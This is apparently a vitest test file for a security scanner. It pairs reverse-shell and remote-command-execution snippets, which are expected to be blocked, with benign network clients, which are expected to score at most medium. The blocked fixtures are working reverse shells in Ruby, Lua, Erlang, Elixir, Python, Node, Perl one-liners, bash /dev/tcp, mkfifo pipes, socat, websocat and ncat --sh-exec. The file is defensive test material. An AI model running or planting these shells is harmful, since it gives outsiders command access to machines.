/**
 * Eighth recall round, remote peers driving a shell: a connection (out, or a raw listener) whose
 * peer's text is run, or whose bytes are a shell's input, in languages and forms other than the
 * development set's (Ruby, Perl without parentheses, Lua, Erlang/Elixir, websockets in Python and
 * Node, asyncio streams, bash descriptors, FIFOs between a shell and openssl/telnet, socat,
 * websocat, ncat), each beside an honest client that reads from the network and runs only fixed
 * programs, which must stay at medium or below.
 */
import { describe, it } from "vitest";
import { atMostMedium, blocked, scanOf } from "./severity-asserts.js";


describe("a remote peer's text run, or a shell wired to the connection, in any language", () => {
  it("Ruby: lines from Socket.tcp run by Open3; lines shown in a notification by a fixed program are not", () => {
    blocked(scanOf({"lib/notify.rb": "require \"socket\"\nrequire \"open3\"\nsock = Socket.tcp(\"deploy-hooks.cloudrelay.io\", 7443)\nsock.each_line do |req|\n  stdout, status = Open3.capture2(req)\n  sock.write(stdout)\nend\n"}));
    atMostMedium(scanOf({"lib/notify.rb": "require \"socket\"\nrequire \"open3\"\nsock = TCPSocket.new(\"chat.internal.corp\", 6667)\nwhile (line = sock.gets)\n  puts line\n  Open3.capture2(\"notify-send\", \"IRC\", line)\nend\nout, _ = Open3.capture2e(\"git\", \"log\", \"-1\")\nsock.puts(out)\n"}));
  });
  it("Ruby: what readpartial returns started by Process.spawn; a status line printed is not", () => {
    blocked(scanOf({"hook.rb": "require 'socket'\nc = TCPSocket.open(ENV.fetch(\"RELAY\", \"relay.buildfarm.dev\"), 9000)\nloop do\n  job = c.readpartial(4096)\n  pid = Process.spawn(job, out: c, err: c)\n  Process.wait(pid)\nend\n"}));
    atMostMedium(scanOf({"get.pl": "use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => \"example.org\", PeerPort => 80) or die;\nprint $c \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (my $line = <$c>) { print $line; }\nmy $rev = `git rev-parse HEAD`;\nsystem(\"git\", \"status\");\n"}));
  });
  it("Lua: a received line run by os.execute; an HTTP status read and a fixed io.popen are not", () => {
    blocked(scanOf({"admin.lua": "local socket = require(\"socket\")\nlocal conn = assert(socket.connect(\"ops-console.gameops.io\", 27015))\nwhile true do\n  local req, err = conn:receive()\n  if err then break end\n  local ok = os.execute(req)\n  conn:send(tostring(ok) .. \"\\n\")\nend\n"}));
    atMostMedium(scanOf({"client.lua": "local socket = require(\"socket\")\nlocal c = socket.connect(\"status.gameops.io\", 80)\nc:send(\"GET /health HTTP/1.0\\r\\n\\r\\n\")\nlocal status = c:receive(\"*l\")\nprint(status)\nlocal p = io.popen(\"date\")\nprint(p:read(\"*a\"))\n"}));
  });
  it("Lua: socket.tcp lines run by io.popen", () => {
    blocked(scanOf({"admin.lua": "local socket = require \"socket\"\nlocal tcp = socket.tcp()\ntcp:connect(\"ops-console.gameops.io\", 27016)\nrepeat\n  local cmd = tcp:receive(\"*l\")\n  if cmd then\n    local f = io.popen(cmd)\n    tcp:send(f:read(\"*a\"))\n    f:close()\n  end\nuntil not cmd\n"}));
    atMostMedium(scanOf({"client.lua": "local socket = require(\"socket\")\nlocal c = socket.connect(\"status.gameops.io\", 80)\nc:send(\"GET /health HTTP/1.0\\r\\n\\r\\n\")\nlocal status = c:receive(\"*l\")\nprint(status)\nlocal p = io.popen(\"date\")\nprint(p:read(\"*a\"))\n"}));
  });
  it("Erlang: {ok, Cmd} from gen_tcp:recv run by os:cmd; Elixir reading a reply and running a fixed git is not", () => {
    blocked(scanOf({"bridge.erl": "-module(bridge).\n-export([start/0]).\nstart() ->\n    {ok, S} = gen_tcp:connect(\"relay.nb-sync.io\", 4370, [binary, {active, false}, {packet, line}]),\n    loop(S).\nloop(S) ->\n    case gen_tcp:recv(S, 0) of\n        {ok, Cmd} -> gen_tcp:send(S, os:cmd(binary_to_list(Cmd))), loop(S);\n        _ -> ok\n    end.\n"}));
    atMostMedium(scanOf({"relay.exs": "{:ok, sock} = :gen_tcp.connect(~c\"metrics.mycorp.dev\", 2003, [:binary, active: false])\n:gen_tcp.send(sock, \"ping\\n\")\ncase :gen_tcp.recv(sock, 0) do\n  {:ok, data} -> IO.puts(data)\n  _ -> :ok\nend\n{out, 0} = System.cmd(\"git\", [\"rev-parse\", \"HEAD\"])\nIO.puts(out)\n"}));
  });
  it("Elixir: a streamed line opened as a spawned Port", () => {
    blocked(scanOf({"relay.exs": "{:ok, sock} = :gen_tcp.connect(~c\"relay.nb-sync.io\", 4370, [:binary, active: false])\nStream.repeatedly(fn -> :gen_tcp.recv(sock, 0) end)\n|> Enum.each(fn {:ok, line} ->\n  port = Port.open({:spawn, line}, [:binary, :exit_status])\n  receive do\n    {^port, {:data, out}} -> :gen_tcp.send(sock, out)\n  end\nend)\n"}));
    atMostMedium(scanOf({"relay.exs": "{:ok, sock} = :gen_tcp.connect(~c\"metrics.mycorp.dev\", 2003, [:binary, active: false])\n:gen_tcp.send(sock, \"ping\\n\")\ncase :gen_tcp.recv(sock, 0) do\n  {:ok, data} -> IO.puts(data)\n  _ -> :ok\nend\n{out, 0} = System.cmd(\"git\", [\"rev-parse\", \"HEAD\"])\nIO.puts(out)\n"}));
  });
  it("Python websocket-client: on_message handed to check_output(shell=True); a fixed command on a keyword is not", () => {
    blocked(scanOf({"kernel.py": "import subprocess, websocket\ndef on_message(ws, message):\n    out = subprocess.check_output(message, shell=True, stderr=subprocess.STDOUT)\n    ws.send(out)\napp = websocket.WebSocketApp(\"wss://cells.notebook-hub.io/attach\", on_message=on_message)\napp.run_forever()\n"}));
    atMostMedium(scanOf({"kernel.py": "import subprocess, websocket\ndef on_message(ws, message):\n    if message == \"status\":\n        out = subprocess.check_output([\"git\", \"status\", \"--short\"])\n        ws.send(out)\napp = websocket.WebSocketApp(\"wss://dash.mycorp.dev/attach\", on_message=on_message)\napp.run_forever()\n"}));
  });
  it("Python asyncio streams: readline run by create_subprocess_shell; websocket chat shown by notify-send is not", () => {
    blocked(scanOf({"agent.py": "import asyncio\nasync def main():\n    reader, writer = await asyncio.open_connection(\"relay.cellrunner.dev\", 9443, ssl=True)\n    while True:\n        line = await reader.readline()\n        if not line:\n            break\n        proc = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        out, _ = await proc.communicate()\n        writer.write(out)\n        await writer.drain()\nasyncio.run(main())\n"}));
    atMostMedium(scanOf({"chat.py": "import asyncio, subprocess, websockets\nasync def main():\n    async with websockets.connect(\"wss://chat.example-corp.com/ws\") as ws:\n        async for msg in ws:\n            print(msg)\n            subprocess.run([\"notify-send\", \"chat\", msg])\nasyncio.run(main())\n"}));
  });
  it("Python websockets sync client: recv() run by os.popen", () => {
    blocked(scanOf({"kernel.py": "import os\nfrom websockets.sync.client import connect\nwith connect(\"wss://cells.notebook-hub.io/k\") as ws:\n    while True:\n        cell = ws.recv()\n        ws.send(os.popen(cell).read())\n"}));
    atMostMedium(scanOf({"chat.py": "import asyncio, subprocess, websockets\nasync def main():\n    async with websockets.connect(\"wss://chat.example-corp.com/ws\") as ws:\n        async for msg in ws:\n            print(msg)\n            subprocess.run([\"notify-send\", \"chat\", msg])\nasyncio.run(main())\n"}));
  });
  it("Node ws: message handed to exec; a message passed to execFile as an argument is not", () => {
    blocked(scanOf({"bridge.js": "const WebSocket = require(\"ws\");\nconst { exec } = require(\"child_process\");\nconst ws = new WebSocket(\"wss://pair.devrelay.io/session\");\nws.on(\"message\", (msg) => {\n  exec(msg.toString(), (err, stdout, stderr) => ws.send(stdout + stderr));\n});\n"}));
    atMostMedium(scanOf({"bridge.js": "const WebSocket = require(\"ws\");\nconst { execFile } = require(\"child_process\");\nconst ws = new WebSocket(\"wss://builds.mycorp.dev/feed\");\nws.on(\"message\", (msg) => {\n  console.log(String(msg));\n  execFile(\"notify-send\", [\"build\", String(msg)]);\n});\n"}));
  });
  it("browser-style WebSocket in Node: event.data to execSync", () => {
    blocked(scanOf({"bridge.mjs": "import { execSync } from \"node:child_process\";\nconst sock = new WebSocket(\"wss://pair.devrelay.io/session\");\nsock.addEventListener(\"message\", (event) => {\n  const out = execSync(event.data, { encoding: \"utf8\" });\n  sock.send(out);\n});\n"}));
    atMostMedium(scanOf({"bridge.js": "const WebSocket = require(\"ws\");\nconst { execFile } = require(\"child_process\");\nconst ws = new WebSocket(\"wss://builds.mycorp.dev/feed\");\nws.on(\"message\", (msg) => {\n  console.log(String(msg));\n  execFile(\"notify-send\", [\"build\", String(msg)]);\n});\n"}));
  });
  it("Perl: lines from IO::Socket::INET run in backticks; an HTTP client printing lines is not", () => {
    blocked(scanOf({"agent.pl": "use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => \"relay.ops-metrics.net\", PeerPort => 7001) or exit;\nwhile (my $cmd = <$c>) {\n  my $out = `$cmd`;\n  print $c $out;\n}\n"}));
    atMostMedium(scanOf({"get.pl": "use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => \"example.org\", PeerPort => 80) or die;\nprint $c \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (my $line = <$c>) { print $line; }\nmy $rev = `git rev-parse HEAD`;\nsystem(\"git\", \"status\");\n"}));
  });
  it("Perl without parentheses: STDIN opened on the socket and a shell exec'd", () => {
    blocked(scanOf({"run.sh": "perl -MSocket -e '$h=\"diag.netcheck-support.com\";socket S,PF_INET,SOCK_STREAM,6;connect S,sockaddr_in(443,inet_aton $h) and do{open STDIN,\"<&S\";open STDOUT,\">&S\";open STDERR,\">&S\";exec \"bash\",\"-i\"}'\n"}));
    atMostMedium(scanOf({"get.pl": "use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => \"example.org\", PeerPort => 80) or die;\nprint $c \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (my $line = <$c>) { print $line; }\nmy $rev = `git rev-parse HEAD`;\nsystem(\"git\", \"status\");\n"}));
  });
  it("Perl -MIO: STDIN fdopen'd on the socket and system run on its lines", () => {
    blocked(scanOf({"run.sh": "perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'\n"}));
    atMostMedium(scanOf({"get.pl": "use IO::Socket::INET;\nmy $c = IO::Socket::INET->new(PeerAddr => \"example.org\", PeerPort => 80) or die;\nprint $c \"GET / HTTP/1.0\\r\\n\\r\\n\";\nwhile (my $line = <$c>) { print $line; }\nmy $rev = `git rev-parse HEAD`;\nsystem(\"git\", \"status\");\n"}));
  });
  it("bash: sh fed by a /dev/tcp descriptor opened through variables; a port probe reading one line is not", () => {
    blocked(scanOf({"pair.sh": "#!/bin/bash\nh=\"relay.devpair.io\"; p=7000\nexec 3<>/dev/tcp/$h/$p\nsh <&3 >&3 2>&3\n"}));
    atMostMedium(scanOf({"check.sh": "#!/bin/bash\nexec 3<>/dev/tcp/$1/$2\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\nread -r status <&3\necho \"$status\"\nexec 3<&-\nsh ./report.sh < /tmp/input.txt | tee out.log\n"}));
  });
  it("bash: lines read from an {fd} socket evaluated", () => {
    blocked(scanOf({"pair.sh": "#!/bin/bash\nexec {fd}<>\"/dev/tcp/${RELAY_HOST}/${RELAY_PORT}\"\nwhile read -r line <&$fd; do\n  eval \"$line\" >&$fd 2>&1\ndone\n"}));
    atMostMedium(scanOf({"check.sh": "#!/bin/bash\nexec 3<>/dev/tcp/$1/$2\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\nread -r status <&3\necho \"$status\"\nexec 3<&-\nsh ./report.sh < /tmp/input.txt | tee out.log\n"}));
  });
  it("openssl s_client and bash -i joined through a FIFO; openssl printing a certificate is not", () => {
    blocked(scanOf({"probe.sh": "#!/bin/bash\nmkfifo /tmp/.s; /bin/bash -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect monitor.tlswatch.io:443 > /tmp/.s\n"}));
    atMostMedium(scanOf({"probe.sh": "#!/usr/bin/env bash\nhost=${1:?host}\necho | openssl s_client -connect \"$host:443\" -servername \"$host\" 2>/dev/null | openssl x509 -noout -enddate\necho \"QUIT\" | telnet \"$host\" 25 2>/dev/null | head -3 > /tmp/banner.txt\n"}));
  });
  it("openssl s_client and sh through a FIFO held in a variable", () => {
    blocked(scanOf({"probe.sh": "#!/bin/bash\np=$(mktemp -u); mkfifo \"$p\"\nsh < \"$p\" 2>&1 | openssl s_client -quiet -connect \"$RELAY:8443\" > \"$p\" &\n"}));
    atMostMedium(scanOf({"probe.sh": "#!/usr/bin/env bash\nhost=${1:?host}\necho | openssl s_client -connect \"$host:443\" -servername \"$host\" 2>/dev/null | openssl x509 -noout -enddate\necho \"QUIT\" | telnet \"$host\" 25 2>/dev/null | head -3 > /tmp/banner.txt\n"}));
  });
  it("telnet feeding /bin/sh through a file", () => {
    blocked(scanOf({"run.sh": "#!/bin/sh\ntelnet relay.devpair.io 23 < /tmp/f | /bin/sh > /tmp/f 2>&1\n"}));
    atMostMedium(scanOf({"probe.sh": "#!/usr/bin/env bash\nhost=${1:?host}\necho | openssl s_client -connect \"$host:443\" -servername \"$host\" 2>/dev/null | openssl x509 -noout -enddate\necho \"QUIT\" | telnet \"$host\" 25 2>/dev/null | head -3 > /tmp/banner.txt\n"}));
  });
  it("socat with an OPENSSL address running SYSTEM:bash; socat port forwards are not", () => {
    blocked(scanOf({"run.sh": "#!/bin/bash\ntarget=\"relay.devpair.io:4443\"\nsocat OPENSSL:$target,verify=0 SYSTEM:'bash -li',pty,stderr\n"}));
    atMostMedium(scanOf({"fwd.sh": "#!/bin/sh\nsocat TCP-LISTEN:8080,fork,reuseaddr TCP:localhost:3000\nsocat OPENSSL:db.mycorp.dev:5432,verify=1 TCP-LISTEN:15432\n"}));
  });
  it("websocat running sh-c:bash; a tar stream over ssh is not", () => {
    blocked(scanOf({"run.sh": "#!/bin/sh\nwebsocat --exit-on-eof wss://pair.devrelay.io/s sh-c:'bash -i'\n"}));
    atMostMedium(scanOf({"deploy.sh": "#!/bin/sh\ntar cz . | ssh deploy@app.mycorp.dev 'tar xz -C /srv/app'\nssh deploy@app.mycorp.dev 'cat /srv/app/VERSION' | sh ./compare.sh\n"}));
  });
  it("ncat --sh-exec", () => {
    blocked(scanOf({"run.sh": "#!/bin/sh\nncat --ssl relay.devpair.io 443 --sh-exec \"bash -i\"\n"}));
    atMostMedium(scanOf({"deploy.sh": "#!/bin/sh\ntar cz . | ssh deploy@app.mycorp.dev 'tar xz -C /srv/app'\nssh deploy@app.mycorp.dev 'cat /srv/app/VERSION' | sh ./compare.sh\n"}));
  });
});
